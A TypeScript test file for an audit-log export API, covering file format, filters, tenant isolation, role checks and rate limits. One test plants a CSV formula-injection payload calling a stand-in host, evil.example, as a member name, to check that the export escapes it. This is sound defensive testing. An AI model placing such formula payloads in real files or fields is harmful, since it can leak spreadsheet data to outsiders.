import type { AuditEntry, Role, TenantId } from "@parley/contracts";
import { recordAudit } from "@parley/core/audit/record-audit";
import { members } from "@parley/db/schema";
import { afterAll, beforeAll, expect, test } from "vitest";
import { createTestApi, dashboard } from "./testing/test-api.ts";

let world: Awaited<ReturnType<typeof createTestApi>>;
beforeAll(async () => {
  world = await createTestApi();
});
afterAll(() => world.close());

type Owner = Awaited<ReturnType<typeof world.signedIn>>;

const exportLog = (owner: Pick<Owner, "cookie">, body: object = { format: "jsonl" }, headers = {}) =>
  world.api.inject({
    method: "POST",
    url: "/api/audit-log/export",
    headers: { origin: dashboard, ...world.csrfOf(owner.cookie), ...headers },
    payload: body,
  });
const add = (tenantId: TenantId, count: number, action: "document.added" | "document.removed" = "document.added") =>
  world.world.db.transaction(tenantId, async (tx) => {
    for (let number = 0; number < count; number += 1) {
      await recordAudit(tx, { action, actor: { kind: "operator", id: null }, ip: "192.0.2.1" });
    }
  });
const entriesOf = (text: string) =>
  text
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as AuditEntry & { actorName: string | null });

test("the log comes as a file with every entry that was there, newest first, and tells afterwards that it was taken away", async () => {
  const owner = await world.signedIn();
  await add(owner.tenantId, 1_203);
  const answer = await exportLog(owner);
  expect(answer.statusCode).toBe(200);
  expect(answer.headers["content-type"]).toContain("application/jsonl");
  expect(answer.headers["content-disposition"]).toContain("attachment");
  const entries = entriesOf(answer.body);
  expect(entries.map(({ seq }) => seq)).toEqual(Array.from({ length: entries.length }, (_, n) => entries.length - n));
  expect(entries.filter(({ action }) => action === "document.added")).toHaveLength(1_203);

  const [told] = entriesOf((await exportLog(owner, { format: "jsonl", action: "audit.exported" })).body);
  expect(told).toMatchObject({
    action: "audit.exported",
    actor: { kind: "member", id: owner.member.memberId },
    details: { format: "jsonl", entries: entries.length },
  });
});

test("only what was asked for is in the file", async () => {
  const owner = await world.signedIn();
  await add(owner.tenantId, 3);
  await add(owner.tenantId, 2, "document.removed");
  const by = (filter: object) => exportLog(owner, { format: "jsonl", ...filter }).then(({ body }) => entriesOf(body));
  expect(await by({ action: "document.removed" })).toHaveLength(2);
  expect(await by({ until: "2020-01-01T00:00:00Z" })).toEqual([]);
  expect(await by({ actorId: "nobody" })).toEqual([]);
  expect((await exportLog(owner, { format: "xml" })).statusCode).toBe(400);
  expect((await exportLog(owner, { format: "csv", tenantId: owner.tenantId })).statusCode).toBe(400);
});

test("[T1] nobody exports another tenant's log: it answers as one that does not exist, and names nothing of it", async () => {
  const [owner, other] = [await world.signedIn(), await world.signedIn()];
  await add(other.tenantId, 1);
  const foreign = await exportLog(owner, { format: "jsonl" }, { "parley-tenant": other.tenantId });
  const missing = await exportLog(owner, { format: "jsonl" }, { "parley-tenant": crypto.randomUUID() });
  const withoutId = (body: string) => body.replace(/"requestId":"[^"]+"/, "");
  expect([foreign.statusCode, withoutId(foreign.body)]).toEqual([missing.statusCode, withoutId(missing.body)]);
  expect(foreign.statusCode).toBe(404);
  expect(entriesOf((await exportLog(owner)).body).map(({ action }) => action)).not.toContain("document.added");
});

test("whoever may not read the log exports none, and nothing is noted; nor without signing in", async () => {
  const owner = await world.signedIn();
  const as = (role: Role) => world.world.db.transaction(owner.tenantId, (tx) => tx.update(members).set({ role }));
  for (const role of ["member", "viewer"] as const) {
    await as(role);
    const refused = await exportLog(owner);
    expect([refused.statusCode, refused.json().error.code]).toEqual([403, "auth.forbidden"]);
  }
  await as("admin");
  const entries = entriesOf((await exportLog(owner)).body);
  expect(entries.map(({ action }) => action)).not.toContain("audit.exported");
  const nobody = await world.api.inject({
    method: "POST",
    url: "/api/audit-log/export",
    headers: { origin: dashboard, ...world.csrfOf() },
    payload: { format: "csv" },
  });
  expect([nobody.statusCode, nobody.json().error.code]).toEqual([401, "auth.required"]);
});

test("files are made so often and no oftener; the answer says when to come back", async () => {
  const owner = await world.signedIn();
  const answers = [];
  for (let time = 0; time < 21; time += 1) answers.push(await exportLog(owner));
  expect(answers.map(({ statusCode }) => statusCode)).toEqual([...Array(20).fill(200), 429]);
  expect(Number(answers.at(-1)?.headers["retry-after"])).toBeGreaterThan(0);
});

test("[I12] a name that a spreadsheet would run as a formula is text in the file", async () => {
  const owner = await world.signedIn();
  const name = '=HYPERLINK("https://evil.example?"&A1,"Ada")';
  await world.world.db.transaction(owner.tenantId, (tx) => tx.update(members).set({ name }));
  await exportLog(owner);
  const answer = await exportLog(owner, { format: "csv", action: "audit.exported" });
  expect(answer.headers["content-type"]).toContain("text/csv");
  const [head, line, end] = answer.body.split("\r\n");
  expect(head).toBe(
    "\uFEFFentry,time,action,actor_kind,actor_id,actor_name,target_kind,target_id,address,details,hash",
  );
  expect(line).toContain(`,"'=HYPERLINK(""https://evil.example?""&A1,""Ada"")",`);
  expect(end).toBe("");
});
